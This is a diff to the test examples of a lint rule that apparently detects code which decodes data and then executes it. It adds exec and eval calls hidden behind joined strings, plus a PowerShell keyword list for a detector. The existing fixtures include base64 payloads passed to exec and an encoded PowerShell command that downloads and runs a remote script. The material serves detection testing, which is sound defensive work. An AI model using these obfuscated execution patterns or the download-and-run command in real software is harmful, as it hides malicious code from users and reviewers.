@@ -8,6 +8,8 @@ extension DecodeExecuteRule {
     Example("import base64\n↓exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n", language: .python),
     Example("import zlib, base64\ncode = zlib.decompress(base64.b64decode(BLOB))\n↓exec(code)\n", language: .python, note: "one assignment of data flow"),
     Example("const s = 'ZWNobyBoZWxsbw==';\n↓eval(atob(s));\n", language: .javascript),
+    Example("import base64, zlib\ncode = zlib.decompress(base64.b64decode(RULES))\n↓getattr(__import__('builtins'), 'ex' + 'ec')(compile(code, '<r>', 'exec'), {})\n", language: .python, note: "exec named by joined strings"),
+    Example("const s = 'ZWNobyBoZWxsbw==';\n↓globalThis['ev' + 'al'](atob(s));\n", language: .javascript, note: "eval through a global object's string key"),
     Example("↓Function(Buffer.from(payload, 'base64').toString())();\n", language: .javascript),
     Example("↓powershell -NoProfile -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADcALwBhAC4AcABzADEAKQA=\n", language: .shell),
     Example("## Setup\n\n```bash\npython3 - <<'PY'\nimport base64, marshal\n↓code = marshal.loads(base64.b64decode(PAYLOAD))\nPY\n```\n", note: "Python inside a shell here-document"),
@@ -20,5 +22,6 @@ extension DecodeExecuteRule {
     Example("const bytes = atob(b64);\ncanvas.drawImage(bytes);\n", language: .javascript, note: "decode without an exec sink"),
     Example("![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)\n", note: "data URI image"),
     Example("echo 'aGVsbG8=' | base64 -d > note.txt\ncat note.txt\n", language: .shell, note: "decoded to a file and printed"),
+    Example("$Markers = @(\n  'FromBase64String', 'Invoke-Expression', '\\bIEX\\b'\n)\nforeach ($m in $Markers) { if ($line -match $m) { $m } }\n", language: .powershell, note: "a detector's word list: decoder and executor in separate strings"),
   ]
 }
